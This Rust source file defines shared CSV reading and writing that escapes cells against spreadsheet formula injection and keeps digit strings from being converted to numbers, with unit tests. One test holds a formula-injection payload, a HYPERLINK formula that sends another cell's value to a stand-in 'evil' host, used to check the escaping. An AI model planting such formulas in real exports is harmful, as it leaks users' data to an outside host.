//! The one CSV reader and writer configuration every command shares (input files, reports,
//! listings, inventories): one place decides the dialect forget reads and writes, and how
//! a cell is kept from running as a spreadsheet formula or being turned into a number.
//!
//! **Every CSV forget writes is escaped** (OWASP ASVS 1.2.10): a cell starting with `=`,
//! `+`, `-`, `@`, tab, CR or NUL is a formula to Excel, LibreOffice and Google Sheets, even
//! when quoted, so it is written with a `'` in front (`+447700900123` → `'+447700900123`,
//! which a spreadsheet reads as text). **A CSV for people** ([`Writer::for_people`]) also
//! writes a cell of digits only as text, `'` in front (`447700900123` → `'447700900123`):
//! spreadsheets read digits as a number, showing `4.477E+11`, dropping leading zeros and
//! every digit past the 15th — and a file saved again keeps what was shown. Only the columns
//! that are numbers in the JSON forms (a line, a count, an HTTP status) stay numbers.
//! A cell that already starts with `'` and then one of those characters (or only digits)
//! gets one more `'`, so the escape can be undone exactly. **Every CSV forget reads is
//! un-escaped** by [`unescape_cell`]: the files meant to come back (`needs-attention.csv`,
//! `forget list`'s CSV) read back as what was written, and a cell starting with `'`
//! followed by anything else (`'quoted`) is never changed.

use std::borrow::Cow;
use std::io::Write;

/// The first characters that make a spreadsheet evaluate a cell.
const FORMULA_START: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\0'];

/// The shared CSV reader settings: a header row, and records of any length (a ragged row is
/// an invalid row for the caller to report, not a failure of the whole file).
pub fn reader_builder(delimiter: u8) -> csv::ReaderBuilder {
    let mut b = csv::ReaderBuilder::new();
    b.delimiter(delimiter).has_headers(true).flexible(true);
    b
}

/// Digits only, at least one: what a spreadsheet turns into a number.
fn is_digits(cell: &str) -> bool {
    !cell.is_empty() && cell.bytes().all(|b| b.is_ascii_digit())
}

/// A cell as written: `'` in front when a spreadsheet would run it as a formula, or when it
/// is `'` (any number of them) followed by such a character or by digits only.
pub fn escape_cell(cell: &str) -> Cow<'_, str> {
    let bare = cell.trim_start_matches('\'');
    if bare.starts_with(FORMULA_START) || (bare.len() < cell.len() && is_digits(bare)) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A cell as written for people: [`escape_cell`], and digits only (a phone number without
/// `+`, an id) as text, `'` in front, so a spreadsheet keeps every digit.
pub fn text_cell(cell: &str) -> Cow<'_, str> {
    if is_digits(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        escape_cell(cell)
    }
}

/// A cell as read: [`escape_cell`] and [`text_cell`] undone. Only a `'` followed by (more
/// `'` and) a formula character or digits only is dropped, one of them; every other cell is
/// as written.
pub fn unescape_cell(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) => {
            let bare = rest.trim_start_matches('\'');
            if bare.starts_with(FORMULA_START) || is_digits(bare) {
                rest
            } else {
                cell
            }
        }
        None => cell,
    }
}

/// Writes CSV records, every cell through [`escape_cell`] (or, for people, [`text_cell`]):
/// there is no way to write a raw one.
pub struct Writer<W: Write> {
    inner: csv::Writer<W>,
    people: Option<People>,
}

/// How a CSV for people writes each column: the numbers are named before the header is
/// written, and known by position after.
struct People {
    numbers: &'static [&'static str],
    /// Per column, whether it holds numbers; `None` until the header is written.
    is_number: Option<Vec<bool>>,
}

impl<W: Write> Writer<W> {
    /// A CSV for programs (`forget list`'s, fed to `forget run` and read by other tools):
    /// formulas escaped, digits left as they are.
    pub fn from_writer(w: W) -> Writer<W> {
        Writer {
            inner: csv::WriterBuilder::new().has_headers(true).from_writer(w),
            people: None,
        }
    }

    /// A CSV for people to open in a spreadsheet (reports, `needs-attention.csv`): the first
    /// record is the header, and every cell of digits is written as text ([`text_cell`])
    /// except in the columns named in `numbers` (counts, line numbers, HTTP statuses).
    pub fn for_people(w: W, numbers: &'static [&'static str]) -> Writer<W> {
        Writer {
            people: Some(People {
                numbers,
                is_number: None,
            }),
            ..Writer::from_writer(w)
        }
    }

    pub fn write_record<I, T>(&mut self, record: I) -> csv::Result<()>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        let Some(people) = &mut self.people else {
            for cell in record {
                self.inner
                    .write_field(escape_cell(cell.as_ref()).as_bytes())?;
            }
            return self.inner.write_record(None::<&[u8]>);
        };
        match &people.is_number {
            None => {
                let mut is_number = Vec::new();
                for cell in record {
                    let cell = cell.as_ref();
                    is_number.push(people.numbers.contains(&cell));
                    self.inner.write_field(text_cell(cell).as_bytes())?;
                }
                people.is_number = Some(is_number);
            }
            Some(is_number) => {
                for (i, cell) in record.into_iter().enumerate() {
                    let cell = cell.as_ref();
                    let written = match is_number.get(i) {
                        Some(true) => escape_cell(cell),
                        _ => text_cell(cell),
                    };
                    self.inner.write_field(written.as_bytes())?;
                }
            }
        }
        self.inner.write_record(None::<&[u8]>)
    }

    pub fn flush(&mut self) -> std::io::Result<()> {
        self.inner.flush()
    }

    /// Flush and hand back the underlying writer.
    pub fn into_inner(self) -> std::io::Result<W> {
        self.inner.into_inner().map_err(|e| e.into_error())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_escaped_and_come_back_exactly() {
        let cases = [
            (
                "=HYPERLINK(\"http://evil/?\"&A1)",
                "'=HYPERLINK(\"http://evil/?\"&A1)",
            ),
            ("+447700900123", "'+447700900123"),
            ("-x", "'-x"),
            ("@a", "'@a"),
            ("\t=1+2", "'\t=1+2"),
            ("\rx", "'\rx"),
            ("\0x", "'\0x"),
            ("'=1", "''=1"),
            ("''+1", "'''+1"),
            ("'quoted", "'quoted"),
            ("'123", "''123"),
            ("'12a", "'12a"),
            ("123", "123"),
            ("'", "'"),
            ("", ""),
            ("plain", "plain"),
            ("a=b", "a=b"),
        ];
        for (value, written) in cases {
            assert_eq!(escape_cell(value), written, "{value:?}");
            assert_eq!(unescape_cell(written), value, "{written:?}");
        }
    }

    #[test]
    fn digits_for_people_are_text_and_come_back_exactly() {
        let cases = [
            ("447700900123", "'447700900123"),
            ("00447700900123", "'00447700900123"),
            ("12345678901234567890", "'12345678901234567890"),
            ("7", "'7"),
            ("+447700900123", "'+447700900123"),
            ("'447700900123", "''447700900123"),
            ("4477 0090", "4477 0090"),
            ("1.5", "1.5"),
            ("", ""),
            ("k-1", "k-1"),
        ];
        for (value, written) in cases {
            assert_eq!(text_cell(value), written, "{value:?}");
            assert_eq!(unescape_cell(written), value, "{written:?}");
        }
    }

    #[test]
    fn a_csv_for_people_keeps_its_number_columns_numbers() -> Result<(), Box<dyn std::error::Error>>
    {
        let mut w = Writer::for_people(Vec::new(), &["line"]);
        w.write_record(["key", "line", "2024"])?;
        w.write_record(["447700900123", "12", "0042"])?;
        w.write_record(["+1", "=1", ""])?;
        let text = String::from_utf8(w.into_inner()?)?;
        assert_eq!(text, "key,line,'2024\n'447700900123,12,'0042\n'+1,'=1,\n");
        // For programs, digits stay as they are.
        let mut w = Writer::from_writer(Vec::new());
        w.write_record(["id"])?;
        w.write_record(["447700900123"])?;
        assert_eq!(String::from_utf8(w.into_inner()?)?, "id\n447700900123\n");
        Ok(())
    }

    #[test]
    fn every_written_cell_is_escaped_even_when_quoted() -> Result<(), Box<dyn std::error::Error>> {
        let mut w = Writer::from_writer(Vec::new());
        w.write_record(["key", "=a,b", "x"])?;
        w.write_record(["+1", "", "-"])?;
        let text = String::from_utf8(w.into_inner()?)?;
        assert_eq!(text, "key,\"'=a,b\",x\n'+1,,'-\n");
        // A record of one empty field still reads back as one field.
        let mut w = Writer::from_writer(Vec::new());
        w.write_record(["id"])?;
        w.write_record([""])?;
        assert_eq!(String::from_utf8(w.into_inner()?)?, "id\n\"\"\n");
        Ok(())
    }
}
